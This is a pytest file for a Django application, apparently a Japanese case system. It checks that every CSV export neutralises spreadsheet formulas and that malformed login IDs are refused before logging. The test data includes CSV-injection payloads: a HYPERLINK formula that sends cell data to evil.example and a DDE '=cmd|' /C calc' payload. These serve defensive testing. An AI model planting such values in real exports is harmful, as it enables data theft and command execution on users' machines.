"""M2 (issue 11): no CSV the application writes carries a live spreadsheet formula, and a login ID
outside the ID alphabet is refused before anything is logged."""

import csv
import io
import re
from pathlib import Path

import pytest

from cases.security.audit import audit_record
from cases.security.models.audit import AuditAction, AuditEntry
from cases.security.models.security import LoginAttempt
from cases.submission import datafile
from cases.submission.records import csv_columns
from cases.submission.transfer_rows import HEADER as TRANSFER_HEADER
from cases.submission.transfer_rows import transfer_csv
from tests.security.auth_helpers import login

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def live_formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]


def test_a_formula_login_id_is_refused_before_it_is_logged_and_never_reaches_the_csv(client, auditor):
    """The attack: a failed login with the ID =HYPERLINK(...) (no account needed) landed as a live
    formula in the auditor's access-log CSV."""
    response = login(client, FORMULA, "whatever-password-1")
    assert response.status_code == 200
    assert "ユーザーIDまたはパスワードが正しくありません" in response.content.decode()
    assert not LoginAttempt.objects.filter(username__contains="HYPERLINK").exists()
    assert not AuditEntry.objects.filter(actor_username__contains="HYPERLINK").exists()
    client.force_login(auditor)
    rows = cells(client.get("/audit/report.csv").content)
    assert not any("HYPERLINK" in cell for row in rows for cell in row)


def test_audit_csv_neutralises_every_text_cell_a_user_can_influence(client, auditor, clerk):
    """The reveal purpose and other logged text: '@SUM(…)' stays text in the spreadsheet."""
    for purpose in ("=1+2", "+cmd", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"):
        audit_record(action=AuditAction.VIEW, actor=clerk, target=purpose, purpose=purpose)
    client.force_login(auditor)
    rows = cells(client.get("/audit/report.csv").content)
    assert live_formulas(rows) == []
    written = {cell for row in rows for cell in row}
    assert {"'=1+2", "'@SUM(A1:A9)", "'-2+3"} <= written


def test_every_csv_export_neutralises_formula_cells(client, auditor, clerk, monkeypatch):
    """One walk over every CSV the application writes: the audit report, the 住基 transfer file and the
    bundle's data CSV. Each is fed cells that start like a formula."""
    audit_record(action=AuditAction.VIEW, actor=clerk, target="=cmd|' /C calc'!A0", purpose="@x")
    client.force_login(auditor)
    outputs = {"audit": client.get("/audit/report.csv").content}
    evil_row = ["=cmd", "+1", "-1", "@a", "\tb", "\rc", *["x"] * (len(TRANSFER_HEADER) - 6)]
    outputs["transfer"] = transfer_csv([evil_row])
    monkeypatch.setattr(
        datafile,
        "record_decode",
        lambda line: (datafile.DATA, dict.fromkeys(csv_columns(datafile.DATA), "=2*3")),
    )
    outputs["bundle"] = datafile.csv_from_records([b"record"])
    for name, data in outputs.items():
        rows = cells(data)
        assert len(rows) >= 2, name
        assert live_formulas(rows) == [], name
    assert cells(outputs["transfer"])[1][:2] == ["'=cmd", "'+1"]


def test_no_csv_writer_bypasses_the_safe_writer():
    """A new export must use cases.common.csvsafe.csv_writer: any other csv.writer fails here."""
    offenders = []
    for folder in ("cases", "documents", "workflows", "tasks", "config"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csvsafe.py":
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
